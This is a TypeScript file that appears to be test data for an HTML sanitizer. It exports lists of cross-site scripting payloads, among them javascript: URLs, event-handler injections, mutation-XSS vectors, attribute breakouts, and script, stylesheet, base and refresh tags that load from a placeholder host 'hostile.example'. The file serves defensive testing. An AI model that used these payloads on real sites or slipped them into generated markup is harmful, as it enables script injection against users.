/** Markup that opens a dialog, or asks something of another site, wherever it is taken for HTML. */
export const IMAGE_TRAP = "<img src=x onerror=alert(1)>";

/** Where traps would send something. */
const ELSEWHERE = "https://hostile.example";

const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&#9;script:alert(1)",
  "&#1;javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:alert(1)",
].map((href) => `<a href="${href}">un lien</a>`);

/** Those that end where they begin: a document may contain all of them. */
export const CLOSED_TRAPS = [
  ...LINKS,
  IMAGE_TRAP,
  "<script>alert(1)</script>",
  `<script src="${ELSEWHERE}/a.js"></script>`,
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<object data="${ELSEWHERE}/o"></object>`,
  `<embed src="${ELSEWHERE}/e">`,
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<input autofocus onfocus=alert(1)>",
  `<form action="javascript:alert(1)"><button autofocus onfocus=alert(1)>x</button></form>`,
  "<video><source onerror=alert(1)></video>",
  `<img src="${ELSEWHERE}/i.png">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/s.css">`,
  `<style>@import "${ELSEWHERE}/t.css";</style>`,
  `<p style="background: url(${ELSEWHERE}/b.png)">x</p>`,
  `<table background="${ELSEWHERE}/t.png"><tr><td colspan='1" onmouseover="alert(1)'>x</td></tr></table>`,
  `<p class="numero-de-paragraphe-western" id='"><img src=x onerror=alert(1)>'>10</p>`,
  `<p class='numero-de-paragraphe-western"><img src=x onerror=alert(1)>'>20</p>`,
  `<h1 id="&quot;><img src=x onerror=alert(1)>">I. &lt;img src=x onerror=alert(1)&gt;</h1>`,
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
];

/** Those that take in what follows. */
export const OPEN_TRAPS = [
  "<body onload=alert(1)>",
  "<xmp><img src=x onerror=alert(1)>",
  "<textarea><script>alert(1)",
  "<svg><p><style><!--</style><img src=x onerror=alert(1)>",
  "</div></main></body><script>alert(1)</script>",
  '<p title="<img src=x onerror=alert(1)>',
  "<plaintext><script>alert(1)</script>",
];
